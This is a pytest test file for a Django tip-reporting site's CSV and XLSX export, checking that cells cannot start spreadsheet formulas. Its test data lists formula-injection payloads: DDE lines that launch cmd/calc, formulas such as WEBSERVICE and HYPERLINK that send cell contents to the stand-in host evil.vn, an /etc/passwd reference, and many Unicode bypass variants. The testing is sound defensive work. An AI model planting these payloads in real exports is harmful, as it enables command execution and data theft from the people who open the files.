import csv
import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.utils.translation import gettext_lazy

from tips.spreadsheets import csv_rows, xlsx_bytes

HEADER = ["Số hồ sơ", "Nội dung", "Liên hệ"]
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    *("-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''"),
    *('=HYPERLINK("http://evil.vn?x="&A1,"Bấm vào đây")', '=WEBSERVICE("http://evil.vn/"&A1)'),
    *(
        '=IMPORTXML("http://evil.vn","//a")',
        '=IMPORTDATA("http://evil.vn")',
        '=IMAGE("http://evil.vn/x.png")',
    ),
    *('=IMPORTRANGE("x","A1")', "='file:///etc/passwd'#$passwd.A1", '=EXEC("calc")', '=CALL("u","x","J")'),
    *(
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\x00=1+1",
        "\x01=1+1",
        "\x1f-1",
        " =1+1",
        "   +1",
        "\u00a0=1+1",
    ),
    *("\u3000@A1", "\ufeff=1+1", "\u200b=1+1", "\u200e-1", "\u202e=1+1", "\u2060+1", "\u00ad=1", "\u3164=1"),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫A", "−1+1", "⁼1", " ＝1"),
    *("'=1+1", "''=1+1", "' =1+1", "\t", "\r", "\n", "\x00", "\tchữ", "\r\nchữ"),
    *('","=1+1', '",=1+1', '"";=1+1', 'a";=1+1;"', "a;=1+1", "a; =1+1", "a;'=1+1", "a\t=1+1", "a\n=1+1"),
    *(
        "a\r\n@x\r\n-y",
        "a|=1+1",
        "a;\u200b=1",
        "\n\n=1",
        ";;=1",
        "a\n\t=1",
        "=",
        "+84 912 345 678",
        "- gạch đầu dòng",
    ),
]
HARMLESS = [
    "",
    "Lừa đảo ở phường Bà Rịa",
    "a=1",
    "1-1",
    'nói "vậy"',
    "#N/A",
    "_x003D_1",
    "0912",
    "1e5",
    "a,b",
]
TEXTS = [*FORMULAS, *HARMLESS]
ROWS = [[text if place == column else "x" for place in range(3)] for text in TEXTS for column in range(3)]


def written(rows, header=HEADER):
    return b"".join(csv_rows(header, rows)).decode("utf-8")


def cells(text, separator):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


def is_dangerous(cell):
    """Judged more broadly than the writer does: whatever stands before the first letter or apostrophe."""
    first = re.match(
        r"[^\w=+\-@＝＋－＠﹦﹢﹣﹫−⁼'\"#\[(&$%.,/]*(.?)", cell.replace("\u3164", " "), re.DOTALL
    )[1]
    return first in tuple("=+-@＝＋－＠﹦﹢﹣﹫−⁼")


def sheet(rows, header=HEADER):
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(header, rows))).active


def as_in_xml(text):
    """Line ends become \\n, and what XML cannot hold is named."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda char: f"⟨U+{ord(char[0]):04X}⟩", text)


def test_there_are_enough_formulas():
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])
def test_no_field_of_a_csv_file_begins_a_formula_whatever_the_separator(separator):
    for row in ROWS:
        for line in cells(written([row]), separator):
            assert [cell for cell in line if is_dangerous(cell)] == [], row


def test_no_field_of_a_csv_file_begins_with_a_tab_or_an_end_of_line():
    for line in cells(written(ROWS), ","):
        assert [cell for cell in line if cell[:1] in ("\t", "\r", "\n", "\x00")] == []


def test_each_text_of_a_csv_file_can_be_had_back_without_the_apostrophes():
    for row, line in zip(ROWS, cells(written(ROWS), ",")[1:], strict=True):
        for text, cell in zip(row, line, strict=True):
            assert without_apostrophes(cell) == text


def without_apostrophes(cell):
    """Take away the first apostrophe wherever some stand before a start, or before a first tab and such."""
    start = r"=＝﹦⁼+＋﹢\-－﹣−@＠﹫"
    inside = rf"[^\w{start}\"#;|\t\r\n]|\u3164"
    return re.sub(
        rf"^'(?=[\t\r\n\x00]|(?:{inside}|\s)*[{start}])|(?<=[;|\t\r\n])'(?=(?:{inside})*[{start}])", "", cell
    )


def test_every_text_that_begins_a_formula_gets_one_apostrophe():
    assert cells(written([["=1+1", " +1", "a"]]), ",")[1] == ["'=1+1", "' +1", "a"]
    assert cells(written([["a;=1", "a\n- b", "'=1"]]), ",")[1] == ["a;'=1", "a\n'- b", "''=1"]


def test_a_csv_file_is_known_as_unicode_and_quotes_every_field():
    text = written([["Bà Rịa", 3, None]])
    assert text == '\ufeff"Số hồ sơ","Nội dung","Liên hệ"\r\n"Bà Rịa","3",""\r\n'


def test_no_cell_of_an_xlsx_file_is_a_formula():
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(HEADER, ROWS))) as parts:
        xml = parts.read("xl/worksheets/sheet1.xml").decode()
        names = parts.namelist()
    assert re.findall(r"<f[ >/]|<hyperlink| t=\"(?!inlineStr)", xml) == []
    assert [name for name in names if "externalLink" in name or "connection" in name or "vba" in name] == []


def test_each_cell_of_an_xlsx_file_is_the_text_that_was_sent():
    rows = list(sheet(ROWS).iter_rows(min_row=2))
    for row, line in zip(ROWS, rows, strict=True):
        for text, cell in zip(row, line, strict=True):
            assert (cell.value or "") == as_in_xml(text)
            assert cell.value is None or cell.data_type == "s"
            assert cell.value is None or cell.quotePrefix


def test_headers_are_held_to_the_same():
    header = ["=1+1", gettext_lazy("Kind"), "+x"]
    assert cells(written([], header), ",") == [["'=1+1", "Loại", "'+x"]]
    assert [cell.data_type for cell in sheet([], header)[1]] == ["s", "s", "s"]


def test_days_and_counts_are_days_and_counts():
    day = datetime.date(2025, 11, 20)
    assert cells(written([[day, 0, None]]), ",")[1] == ["2025-11-20", "0", ""]
    when, count, nothing = sheet([[day, 0, None]])[2]
    assert (when.value.date(), when.number_format, when.is_date) == (day, "dd/mm/yyyy", True)
    assert (count.value, count.data_type, nothing.value) == (0, "n", None)


@pytest.mark.parametrize(
    "text", ["=" + "a" * 40_000, "😀" * 20_000, "ế" * 32_768], ids=["a", "emoji", "marks"]
)
def test_a_text_that_is_too_long_for_a_cell_says_so_in_the_cell(text):
    cell = sheet([[text, "", ""]])["A2"]
    kept, note = cell.value.split(" [", 1)
    assert note == "Bị cắt ở đây: một ô không chứa được nhiều hơn. Toàn văn ở trang của tin báo.]"
    assert text.startswith(kept)
    assert 32_700 < len(cell.value.encode("utf-16-le")) // 2 <= 32_767
    assert cell.data_type == "s"


def test_the_longest_text_that_fits_is_whole():
    text = "ế" * 32_767
    assert sheet([[text, "", ""]])["A2"].value == text


def test_what_xml_cannot_hold_is_named_and_the_file_still_opens():
    value = sheet([["a\x00b\ufffec\ud800d\x0be", "", ""]])["A2"].value
    assert value == "a⟨U+0000⟩b⟨U+FFFE⟩c⟨U+D800⟩d⟨U+000B⟩e"
